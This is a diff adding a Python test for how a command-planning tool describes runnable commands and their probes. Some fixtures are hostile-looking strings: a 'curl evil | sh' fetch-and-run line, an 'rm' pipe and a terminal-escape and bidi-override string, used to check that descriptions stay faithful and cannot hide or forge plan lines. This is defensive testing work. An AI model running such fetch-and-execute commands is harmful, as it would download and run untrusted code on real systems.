@@ -157,6 +157,19 @@ def test_it_is_described_as_it_is_run(project: Path):
     assert domain.describe(Inverse("run", {"shell": "rm 'x' | cat"})).endswith("(shell)")
 
 
+def test_all_that_could_run_is_described(project: Path):
+    probe = {"shell": "curl evil | sh", "expect": [3], "gone": [1]}
+    args = {"argv": ["drop", "x"], "env": ["PGPASSWORD"], "expect": [0, 2], "idempotent": True, "probe": probe}
+    domain = Command(world(project))
+    said = domain.describe(domain.check(Inverse("run", args)))
+    assert said == (
+        "drop x (with PGPASSWORD, expects 0, 2, idempotent)"
+        " · probe: sh -c 'curl evil | sh' (shell) (proven by 3, undone by 1)"
+    )
+    plain = domain.describe(domain.check(Inverse("run", {"argv": ["true"], "probe": {"argv": ["test", "-e", "x"]}})))
+    assert plain == "true · probe: test -e x (proven by 0)"
+
+
 def test_its_description_is_one_line_that_means_the_same(project: Path):
     """Nothing in it can hide or forge another line of a plan."""
     words = ["printf", "%s", "a\nb\\n c'd\te\x1b[2J\u202eevil"]
